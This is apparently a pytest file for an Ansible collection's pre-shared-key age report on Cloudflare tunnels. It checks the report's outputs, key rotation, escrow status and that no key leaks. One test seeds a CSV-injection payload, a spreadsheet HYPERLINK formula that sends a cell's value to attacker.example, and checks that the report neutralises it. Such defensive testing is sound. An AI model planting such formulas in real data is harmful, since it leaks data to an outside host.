"""docs/examples/psk_age_report.yml run as a user runs it, against the emulator: the CSV says what the emulator
holds, the report marks what a person must act on, and no key reaches any report or output."""

from __future__ import annotations

import base64
import csv
import os
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
import yaml
from support.bulk import bulk_posts
from support.playbooks import seed_account
from support.results import api_calls

from ansible_collections.cloudflare.magic.plugins.module_utils._options import parse_timestamp

EXAMPLE = Path(__file__).resolve().parents[2] / "docs" / "examples" / "psk_age_report.yml"
MAX_AGE = timedelta(days=90)


def inventory(path, routers, confdirs):
    hosts = {host: {"cloudflare_tunnel_name": name, "swanctl_conf_dir": str(confdirs[host])}
             for host, name in routers.items()}
    path.write_text(yaml.safe_dump({"all": {"children": {"routers": {
        "hosts": hosts, "vars": {"ansible_connection": "local", "swanctl_load": False}}}}}))
    return path


ROUTER_KEY = "router-held-key-never-to-be-read-0123"  # what the router's file holds; no run may show it


def write_stamp(confdir, name, stamp):
    """The router's swanctl file as the tunnel_psk role writes it: the stamp line, then the key (base64)."""
    confdir.mkdir(parents=True, exist_ok=True)
    (confdir / f"cloudflare-{name}.conf").write_text(
        f"# cloudflare.magic psk {stamp}\nsecrets {{\n  ike-cloudflare-{name} {{\n"
        f"    secret = 0s{base64.b64encode(ROUTER_KEY.encode()).decode()}\n  }}\n}}\n")


def edge_stamp(tunnel):
    return (tunnel.get("psk_metadata") or {}).get("last_generated_on")


def csv_rows(folder):
    with open(folder / "psk-age-report.csv", newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def run_report(playbooks, emulator, tmp_path, routers, stamps, **extra):
    confdirs = {host: tmp_path / host for host in routers}
    for host, name in routers.items():
        if host in stamps:
            write_stamp(confdirs[host], name, stamps[host])
    inv = inventory(tmp_path / "inventory.yml", routers, confdirs)
    folder = tmp_path / "report"
    extra_vars = {"cloudflare_ca_path": emulator.ca_file, "psk_max_age": "90d", "report_dir": str(folder), **extra}
    return playbooks.run(EXAMPLE, "-i", str(inv), extra_vars=extra_vars), folder, confdirs


def test_the_report_and_its_csv_match_the_emulator(playbooks, emulator, tmp_path):
    by_name = {t["name"]: t for t in emulator.tunnels(emulator.account_id)}
    routers = {"router-nyc": "tunnel_nyc_01", "router-sin": "tunnel_sin_01", "router-lon": "tunnel_lon_01"}
    stamps = {"router-nyc": edge_stamp(by_name["tunnel_nyc_01"]), "router-sin": "2026-01-01T00:00:00Z"}
    started = datetime.now(timezone.utc)
    run, folder, _confdirs = run_report(playbooks, emulator, tmp_path, routers, stamps)
    assert run.returncode == 0, run.stdout[-3000:]
    assert api_calls(emulator) == [("GET", "ipsec_tunnels")], "the report sent more than the one list"

    rows = csv_rows(folder)
    assert sorted(r["id"] for r in rows) == sorted(t["id"] for t in seed_account(emulator)["tunnels"])
    for row in rows:
        tunnel = by_name[row["name"]]
        assert row["id"] == tunnel["id"] and row["cloudflare_endpoint"] == tunnel["cloudflare_endpoint"]
        assert row["customer_endpoint"] == tunnel.get("customer_endpoint", "")
        assert row["description"] == tunnel.get("description", "")
        assert row["last_generated_on"] == (edge_stamp(tunnel) or "")
        generated = parse_timestamp(edge_stamp(tunnel)) if edge_stamp(tunnel) else None
        assert row["never_generated"] == ("true" if generated is None else "false")
        assert row["overdue"] == ("true" if generated is None or started - generated > MAX_AGE else "false"), row["name"]
        if generated is not None:
            assert abs(float(row["psk_age_days"]) - (started - generated).total_seconds() / 86400) < 0.02
    stale = {r["name"]: r["router_stale"] for r in rows}
    assert stale == {"tunnel_nyc_01": "false", "tunnel_sin_01": "true", "tunnel_lon_01": "true",
                     "tunnel_nyc_01b": "", "tunnel_fra_01": ""}
    # Sorted by age: the key of unknown age first, then the oldest first.
    assert [r["name"] for r in rows] == ["tunnel_lon_01", "tunnel_nyc_01b", "tunnel_fra_01", "tunnel_sin_01",
                                         "tunnel_nyc_01"]

    report = (folder / "psk-age-report.md").read_text()
    marked = {line.split("|")[2].strip() for line in report.splitlines() if "**OVERDUE**" in line}
    assert marked == {"tunnel_lon_01", "tunnel_nyc_01b", "tunnel_fra_01"}
    stale_section = report.split("## Stale routers", 1)[1]
    assert "- router-sin (tunnel_sin_01, " in stale_section and "holds the key of 2026-01-01T00:00:00Z" in stale_section
    assert "- router-lon (tunnel_lon_01, " in stale_section and "holds no key from this collection" in stale_section
    assert "tunnel_nyc_01," not in stale_section
    assert "| 5 | 3 | 1 | 0 | 2 of 3 checked | tunnel_nyc_01b (" in report

    secrets = [playbooks.token, *emulator.bgp_md5_keys(), ROUTER_KEY, base64.b64encode(ROUTER_KEY.encode()).decode()]
    assert run.hits(*secrets) == 0
    assert sum((folder / name).read_text().count(s) for name in ("psk-age-report.md", "psk-age-report.csv")
               for s in secrets) == 0


def test_the_summary_is_published_with_set_stats(playbooks, emulator, tmp_path):
    run, _folder, _confdirs = run_report(playbooks, emulator, tmp_path, {}, {}, report_format="html")
    assert run.returncode == 0, run.stdout[-3000:]
    # ansible-playbook prints set_stats data at the end of the run when show_custom_stats is on.
    rerun = playbooks.run(EXAMPLE, "-i", "localhost,", env={"ANSIBLE_SHOW_CUSTOM_STATS": "1"}, extra_vars={
        "cloudflare_ca_path": emulator.ca_file, "report_dir": str(tmp_path / "again"), "router_group": "none"})
    assert rerun.returncode == 0, rerun.stdout[-3000:]
    stats = rerun.stdout.split("CUSTOM STATS", 1)[1]
    assert "psk_age_report" in stats and "'total': 5" in stats.replace('"', "'")
    assert "'overdue': 3" in stats.replace('"', "'") and "tunnel_fra_01" in stats
    html = (tmp_path / "report" / "psk-age-report.html").read_text()
    assert html.count('class="overdue"') == 3 and '<table id="tunnels">' in html


def test_rotate_overdue_rotates_routers_overdue_tunnels_and_keeps_keys_out_of_the_report(
        playbooks, emulator, tmp_path):
    by_name = {t["name"]: t for t in emulator.tunnels(emulator.account_id)}
    routers = {"router-nyc": "tunnel_nyc_01", "router-fra": "tunnel_fra_01"}
    stamps = {"router-nyc": edge_stamp(by_name["tunnel_nyc_01"]), "router-fra": edge_stamp(by_name["tunnel_fra_01"])}
    run, folder, confdirs = run_report(playbooks, emulator, tmp_path, routers, stamps, rotate_overdue=True)
    assert run.returncode == 0, run.stdout[-3000:]
    [post] = bulk_posts(emulator)
    sent = [entry["id"] for entry in yaml.safe_load(post.body)["psks"]]
    assert sent == [by_name["tunnel_fra_01"]["id"]], "only the overdue tunnel that has a router is rotated"
    conf = (confdirs["router-fra"] / "cloudflare-tunnel_fra_01.conf").read_text()
    secret_line = next(line.strip() for line in conf.splitlines() if line.strip().startswith("secret = 0s"))
    held = base64.b64decode(secret_line[len("secret = 0s"):]).decode()
    assert held == emulator.edge_psk(by_name["tunnel_fra_01"]["id"]), "the router does not hold the key in force"
    keys = emulator.generated_psks()
    assert keys and run.hits(*keys, playbooks.token) == 0
    assert sum((folder / name).read_text().count(k) for name in ("psk-age-report.md", "psk-age-report.csv")
               for k in keys) == 0
    assert "tunnel_fra_01" in (folder / "psk-age-report.md").read_text()


@pytest.mark.slow(reason="the report with rotate_overdue (a role run inside), then the report again")
def test_a_router_the_role_just_rotated_is_not_reported_stale(playbooks, emulator, tmp_path):
    """The role keeps the stamp in the router's swanctl file, next to the key, and removes the stamp file of
    older versions: the report reads the stamp from there (only that line leaves the router)."""
    by_name = {t["name"]: t for t in emulator.tunnels(emulator.account_id)}
    routers = {"router-fra": "tunnel_fra_01"}
    stamps = {"router-fra": edge_stamp(by_name["tunnel_fra_01"])}
    first, _folder, _confdirs = run_report(playbooks, emulator, tmp_path, routers, stamps, rotate_overdue=True)
    assert first.returncode == 0 and len(bulk_posts(emulator)) == 1, first.stdout[-3000:]
    again, folder, _confdirs = run_report(playbooks, emulator, tmp_path, routers, {})
    assert again.returncode == 0, again.stdout[-3000:]
    fra = next(r for r in csv_rows(folder) if r["name"] == "tunnel_fra_01")
    assert (fra["overdue"], fra["router_stale"]) == ("false", "false"), fra
    assert again.hits(*emulator.generated_psks(), ROUTER_KEY) == 0


@pytest.mark.parametrize("marked", ["unverified", "pending"])
def test_a_stamp_the_role_marked_unverified_is_reported_stale(playbooks, emulator, tmp_path, marked):
    """After a failed hand-off the role writes "# cloudflare.magic psk unverified", and a killed one leaves
    "# cloudflare.magic psk pending <time>" (even with Cloudflare's time): that router is stale, and the
    report of every other tunnel still comes out."""
    routers = {"router-nyc": "tunnel_nyc_01", "router-sin": "tunnel_sin_01"}
    by_name = {t["name"]: t for t in emulator.tunnels(emulator.account_id)}
    nyc = marked if marked == "unverified" else f"pending {edge_stamp(by_name['tunnel_nyc_01'])}"
    stamps = {"router-nyc": nyc, "router-sin": edge_stamp(by_name["tunnel_sin_01"])}
    run, folder, _confdirs = run_report(playbooks, emulator, tmp_path, routers, stamps)
    assert run.returncode == 0, run.stdout[-3000:]
    stale = {r["name"]: r["router_stale"] for r in csv_rows(folder)}
    assert (stale["tunnel_nyc_01"], stale["tunnel_sin_01"]) == ("true", "false")


def test_a_description_that_is_a_spreadsheet_formula_stays_text_in_the_csv(tmp_path):
    """A tunnel's name and description are free text of whoever may edit tunnels; a CSV cell that starts with
    = + - @ is run as a formula by spreadsheet programs (CSV injection). Such a cell gets a leading quote."""
    from cf_emulator import Emulator, default_seed
    from support.playbooks import PlaybookRunner

    seed = default_seed()
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"details")'
    seed["accounts"][0]["tunnels"][0]["description"] = formula
    emulator = Emulator(seed=seed, tls=True, state_dir=str(tmp_path / "emulator")).start()
    try:
        run, folder, _confdirs = run_report(PlaybookRunner(tmp_path / "run", emulator), emulator, tmp_path, {}, {})
    finally:
        emulator.stop()
    assert run.returncode == 0, run.stdout[-3000:]
    descriptions = [r["description"] for r in csv_rows(folder)]
    assert "'" + formula in descriptions
    assert not any(cell[:1] in "=+-@" for row in csv_rows(folder) for cell in row.values() if cell), descriptions


def test_the_report_shows_each_tunnels_escrow_from_its_metadata_never_the_key(
        playbooks, emulator, tmp_path, openbao, hashi_vault_path, monkeypatch):
    """Against a real OpenBao server, one run: an escrow described with Cloudflare's key in force is current, one
    described with an older key, or holding a version the role did not describe, is stale, one with no secret or
    whose current version was deleted is missing. The escrowed keys appear in no output, log or report."""
    monkeypatch.setenv("ANSIBLE_COLLECTIONS_PATH", os.pathsep.join(
        p for p in (hashi_vault_path, os.environ.get("ANSIBLE_COLLECTIONS_PATH", "")) if p))
    monkeypatch.setenv("VAULT_ADDR", openbao.url)
    monkeypatch.setenv("VAULT_TOKEN", openbao.root_token)
    by_name = {t["name"]: t for t in emulator.tunnels(emulator.account_id)}
    mount = openbao.new_mount()
    keys = {name: f"escrowed-key-of-{name}-never-to-be-shown-0123" for name in by_name}

    def escrow(name, described_stamp, describe=True):
        path = f"cloudflare-magic/lab/{name}"
        version = openbao.write(mount, path, {"psk": keys[name], "last_generated_on": described_stamp})["version"]
        if describe:  # as the role describes each version it writes
            openbao.call("POST", f"{mount}/metadata/{path}", {"custom_metadata": {
                "version": str(version), "last_generated_on": described_stamp, "ipsec_tunnel_id": by_name[name]["id"]}})
        return path

    escrow("tunnel_nyc_01", edge_stamp(by_name["tunnel_nyc_01"]))                  # current
    escrow("tunnel_sin_01", "2026-01-01T00:00:00.000000Z")                         # stale: an older key
    escrow("tunnel_fra_01", edge_stamp(by_name["tunnel_fra_01"]))
    escrow("tunnel_fra_01", edge_stamp(by_name["tunnel_fra_01"]), describe=False)  # stale: written by someone else
    deleted = escrow("tunnel_nyc_01b", edge_stamp(by_name["tunnel_nyc_01b"]))
    openbao.call("DELETE", f"{mount}/data/{deleted}")                              # missing: its version deleted
    # tunnel_lon_01: no secret at all                                               # missing

    run, folder, _confdirs = run_report(playbooks, emulator, tmp_path, {}, {}, escrow_mount=mount,
                                        escrow_path_prefix="cloudflare-magic/lab", router_group="none")
    assert run.returncode == 0, run.stdout[-3000:]
    expected = {"tunnel_nyc_01": "current", "tunnel_sin_01": "stale", "tunnel_fra_01": "stale",
                "tunnel_nyc_01b": "missing", "tunnel_lon_01": "missing"}
    assert {r["name"]: r["escrow"] for r in csv_rows(folder)} == expected
    report = (folder / "psk-age-report.md").read_text()
    assert "1 current, 2 stale, 2 missing" in report
    assert "| tunnel_sin_01 | **STALE** |" in report and "| tunnel_nyc_01 | current |" in report
    secrets = [playbooks.token, openbao.root_token, *keys.values()]
    assert run.hits(*secrets) == 0
    assert sum((folder / name).read_text().count(s) for name in ("psk-age-report.md", "psk-age-report.csv")
               for s in secrets) == 0
